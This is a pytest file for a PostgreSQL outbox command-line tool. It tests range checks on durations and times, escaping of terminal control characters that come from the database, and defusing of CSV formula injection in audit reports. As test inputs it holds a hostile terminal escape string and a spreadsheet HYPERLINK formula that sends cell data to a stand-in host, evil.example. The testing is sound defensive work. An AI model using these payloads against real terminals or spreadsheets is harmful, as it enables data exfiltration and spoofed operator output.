"""What an operator types and what the database holds are both untrusted by the command line:

* a duration or time beyond what the options take is a usage error naming the value and the
  range (exit 2), never an OverflowError, and nothing is read or written;
* values from the database (a payload, an idempotency key, an error, an actor, a worker id)
  are shown in tables and messages with their control characters escaped: a publisher cannot
  clear the operator's terminal, recolour it or print a fake line;
* `audit report --format csv` puts a quote before a cell that a spreadsheet would take for a
  formula; the JSON report stays exact.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import asyncpg
import pytest
from clikit import Completed, run_pgoutbox

from pgoutbox import DatabaseSessionManager, publish_operation
from pgoutbox.settings import DatabaseSettings

# What a hostile publisher or handler puts in a value: a colour, a fake line, a bell, a screen
# clear, and a C1 control (CSI on terminals that take it alone).
HOSTILE = "\x1b[31mred\r\nFAKE LINE\x07\x1b[2J\x9b"
SHOWN = "\\x1b[31mred\\r\\nFAKE LINE\\x07\\x1b[2J\\x9b"
RAW_CONTROLS = ("\x1b", "\r", "\x07", "\x9b")


class Cli:
    """The console script against the test schema, wide enough that cells are not wrapped."""

    def __init__(self, dsn: str, schema: str) -> None:
        self.dsn, self.schema = dsn, schema

    async def __call__(self, *args: str) -> Completed:
        return await run_pgoutbox(*args, dsn=self.dsn, schema=self.schema, COLUMNS="200")


@pytest.fixture
def cli(database_dsn: str, db_settings: DatabaseSettings) -> Cli:
    return Cli(database_dsn, db_settings.schema_name)


@pytest.fixture
def s(db_settings: DatabaseSettings) -> str:
    return f'"{db_settings.schema_name}"'


async def _publish(sm: DatabaseSessionManager, **kwargs: object) -> int:
    async with sm.session() as session:
        op_id = int(await publish_operation(session, "billing.charge", {"n": 1}, "c", **kwargs))
        await session.commit()
    return op_id


async def _move(
    conn: asyncpg.Connection, s: str, op_id: int, trigger: str, state: str, **columns: object
) -> None:
    """A transition as a worker or operator makes it, through the audit trigger (as the
    owner, who may set any transition_actor and error)."""
    names = list(columns)
    sets = "".join(f", {name} = ${i}" for i, name in enumerate(names, start=4))
    await conn.execute(
        f"UPDATE {s}.operations SET state = $2, transition = $3, version = version + 1{sets} "
        "WHERE id = $1",
        op_id,
        state,
        trigger,
        *columns.values(),
    )


async def _snapshot(conn: asyncpg.Connection, s: str) -> tuple[object, ...]:
    """Everything a command could have written: operations, audit rows, purges."""
    return (
        await conn.fetch(f"SELECT id, state, version FROM {s}.operations ORDER BY id"),
        await conn.fetchval(f"SELECT count(*) FROM {s}.audit_log"),
        await conn.fetchval(f"SELECT count(*) FROM {s}.purges"),
    )


# -- durations and times out of range -------------------------------------------------------

DURATION_RANGE = "durations go from 0s to 36525d (100 years)"
TIME_RANGE = (
    "times go from 0001-01-01T00:00:00Z to 9999-12-31T23:59:59.999999Z (Python's datetime; "
    "PostgreSQL's timestamptz holds all of them)"
)


@pytest.mark.parametrize(
    ("args", "error"),
    [
        (
            ["ops", "list", "--since", "800000d"],
            f"Invalid value for '--since': duration '800000d' is out of range: {DURATION_RANGE}",
        ),
        (
            ["ops", "list", "--until", "9999-12-31T23:59:59-05:00"],
            "Invalid value for '--until': time '9999-12-31T23:59:59-05:00' is out of range: "
            + TIME_RANGE,
        ),
        (
            ["ops", "list", "--stale", "--older-than", "99999999999d"],
            "Invalid value for '--older-than': duration '99999999999d' is out of range: "
            + DURATION_RANGE,
        ),
        (
            ["ops", "list", "--live-within", "0s"],
            "Invalid value for '--live-within': duration '0s' is out of range: this one must be "
            "more than 0s and at most 36525d (100 years)",
        ),
        (
            ["workers", "--live-within", "36526d"],
            f"Invalid value for '--live-within': duration '36526d' is out of range: "
            f"{DURATION_RANGE}",
        ),
        (
            ["stats", "--since", "0001-01-01T00:00:00+01:00"],
            "Invalid value for '--since': time '0001-01-01T00:00:00+01:00' is out of range: "
            + TIME_RANGE,
        ),
        (
            ["audit", "report", "--since", "10000-01-01"],
            f"Invalid value for '--since': time '10000-01-01' is out of range: {TIME_RANGE}",
        ),
        (
            ["ops", "purge", "--finished-before", "99999999999d", "--yes", "--actor", "ret"],
            "Invalid value for '--finished-before': duration '99999999999d' is out of range: "
            + DURATION_RANGE,
        ),
    ],
)
async def test_a_duration_or_time_out_of_range_is_a_usage_error_and_writes_nothing(
    cli: Cli,
    sm: DatabaseSessionManager,
    conn: asyncpg.Connection,
    s: str,
    args: list[str],
    error: str,
) -> None:
    op_id = await _publish(sm)
    await _move(conn, s, op_id, "cancel", "cancelled", transition_actor="ops")
    before = await _snapshot(conn, s)

    result = await cli(*args)

    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    assert result.stderr.splitlines()[-1] == f"Error: {error}"
    assert "Traceback" not in result.stderr
    assert await _snapshot(conn, s) == before  # the cancelled operation was not purged


async def test_the_longest_duration_and_the_earliest_time_are_accepted(cli: Cli) -> None:
    for args in (
        ["ops", "list", "--since", "36525d", "--json"],
        ["ops", "list", "--until", "0001-01-01", "--json"],
        ["ops", "list", "--until", "9999-12-31T23:59:59.999999Z", "--json"],
    ):
        result = await cli(*args)
        assert (result.returncode, result.stderr, json.loads(result.stdout)) == (0, "", []), args


# -- control characters in what the tables show ---------------------------------------------


def _rows(table: str) -> list[list[str]]:
    """The body rows of the tables in ``table``, as their stripped cells."""
    return [
        [cell.strip() for cell in line.split("│")[1:-1]]
        for line in table.splitlines()
        if line.startswith("│")
    ]


def _assert_escaped(output: str) -> None:
    for raw in RAW_CONTROLS:
        assert raw not in output, (raw, output)
    # The fake line is shown on the line of the value that carried it, never on its own.
    assert not any(line.lstrip("│ ").startswith("FAKE LINE") for line in output.splitlines())


async def test_control_characters_from_the_database_are_shown_escaped_in_every_table(
    cli: Cli, sm: DatabaseSessionManager, conn: asyncpg.Connection, s: str
) -> None:
    # A publisher's idempotency key (publish_operation refuses only NUL and lone surrogates;
    # operation types are validated), then a worker's actor, lease, error and detail, and a
    # worker id and channel: all as stored. The payload has a test of its own, below.
    op_id = await _publish(sm, idempotency_key=f"key{HOSTILE}")
    await _move(
        conn,
        s,
        op_id,
        "claim",
        "claimed",
        transition_actor=f"w{HOSTILE}",
        attempts=1,
        step_attempts=1,
        lease_owner=f"w{HOSTILE}",
        lease_expires_at=datetime.now(UTC) + timedelta(hours=1),
    )
    await _move(
        conn,
        s,
        op_id,
        "fail",
        "failed",
        transition_actor=f"w{HOSTILE}",
        transition_detail=f"attempt 1 of 5: ValueError: {HOSTILE}\nTraceback ...",
        last_error=f"ValueError: {HOSTILE}",
        lease_owner=None,
        lease_expires_at=None,
    )
    await conn.execute(
        f"INSERT INTO {s}.workers (id, hostname, pid, channel, operation_types) "
        "VALUES ($1, 'host', 1, $2, '{billing.charge}')",
        f"w{HOSTILE}",
        f"c{HOSTILE}",
    )

    show = await cli("ops", "show", str(op_id))
    listed = await cli("ops", "list")
    workers = await cli("workers")

    for result in (show, listed, workers):
        assert (result.returncode, result.stderr) == (0, "")
        _assert_escaped(result.stdout)
    role = await conn.fetchval("SELECT current_user")
    lines = [line.rstrip() for line in show.stdout.splitlines()]
    assert f"idempotency key  key{SHOWN}" in lines
    assert f"last error       ValueError: {SHOWN}" in lines
    # Tables show an error's first line: it ends at the LF, with the CR before it shown.
    first_line = "ValueError: \\x1b[31mred\\r"
    attempts, *trail = _rows(show.stdout)
    assert [attempts[1], attempts[-1]] == [f"w{SHOWN}", f"attempt 1 of 5: {first_line}"]
    # The audit trail: each actor on its row, the role that acted beneath it (a line break
    # the command puts there), the detail's first line.
    assert [row[2:] for row in trail] == [
        ["publish", "- -> pending", "0", role, "-"],
        ["claim", "pending -> claimed", "1", f"w{SHOWN}", "-"],
        ["", "", "", f"as {role}", ""],
        ["fail", "claimed -> failed", "1", f"w{SHOWN}", f"attempt 1 of 5: {first_line}"],
        ["", "", "", f"as {role}", ""],
    ]
    [listed_row] = _rows(listed.stdout)
    assert listed_row[-1] == first_line
    [worker_row] = _rows(workers.stdout)
    assert worker_row[:3] == [f"w{SHOWN}", f"c{SHOWN}", "billing.charge"]
    # --json is exact: the values as stored, escaped only as JSON escapes them.
    detail = json.loads((await cli("ops", "show", str(op_id), "--json")).stdout)
    assert detail["operation"]["idempotency_key"] == f"key{HOSTILE}"


async def test_a_hostile_payload_is_shown_escaped_by_ops_show(
    cli: Cli, sm: DatabaseSessionManager
) -> None:
    async with sm.session() as session:
        op_id = int(await publish_operation(session, "billing.charge", {"note": HOSTILE}, "c"))
        await session.commit()

    result = await cli("ops", "show", str(op_id))

    assert (result.returncode, result.stderr) == (0, "")
    _assert_escaped(result.stdout)
    # json.dumps writes C0 controls as \u escapes already; the C1 one is escaped by the table.
    payload = json.dumps({"note": HOSTILE}, ensure_ascii=False).replace("\x9b", "\\x9b")
    assert f"payload          {payload}" in [line.rstrip() for line in result.stdout.splitlines()]


async def test_an_action_message_is_escaped(cli: Cli, sm: DatabaseSessionManager) -> None:
    op_id = await _publish(sm)

    result = await cli("ops", "cancel", str(op_id), "--actor", f"ops{HOSTILE}")

    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout == f"operation {op_id}: pending -> cancelled (cancel, by ops{SHOWN})\n"


# -- CSV formula injection -------------------------------------------------------------------

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# actor -> its CSV cell: a quote before each start OWASP lists, nothing before anything else.
FORMULAS = {
    LINK: "'" + LINK,
    "+1+1": "'+1+1",
    "-x": "'-x",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "alice": "alice",
    "a=1": "a=1",
}


async def test_audit_report_csv_quotes_cells_that_start_like_a_formula_and_json_is_exact(
    cli: Cli, sm: DatabaseSessionManager
) -> None:
    cancelled = {}
    for actor in FORMULAS:
        op_id = await _publish(sm)
        result = await cli("ops", "cancel", str(op_id), "--actor", actor, "--reason", "-1 dup")
        assert result.returncode == 0, result.stderr
        cancelled[op_id] = actor

    report = await cli("audit", "report", "--format", "csv")
    as_json = await cli("audit", "report", "--format", "json")

    assert report.returncode == 0, report.stderr
    rows = list(csv.DictReader(io.StringIO(report.stdout, newline="")))
    cancels = [r for r in rows if r["trigger"] == "cancel"]
    assert {int(r["operation_id"]): (r["actor"], r["detail"]) for r in cancels} == {
        op_id: (FORMULAS[actor], "'-1 dup") for op_id, actor in cancelled.items()
    }
    # Every other cell is the JSON report's value as it is: times, ids, states, triggers and
    # hashes start with none of = + - @, and the publishing role's name neither.
    records = json.loads(as_json.stdout)
    assert len(rows) == len(records) == 2 * len(FORMULAS)
    for row, record in zip(rows, records, strict=True):
        untouched = {k: "" if v is None else str(v) for k, v in record.items()}
        if row["trigger"] == "cancel":
            del untouched["actor"], untouched["detail"]
        assert {k: row[k] for k in untouched} == untouched
    cancel_records = [r for r in records if r["trigger"] == "cancel"]
    assert {r["operation_id"]: (r["actor"], r["detail"]) for r in cancel_records} == {
        op_id: (actor, "-1 dup") for op_id, actor in cancelled.items()
    }
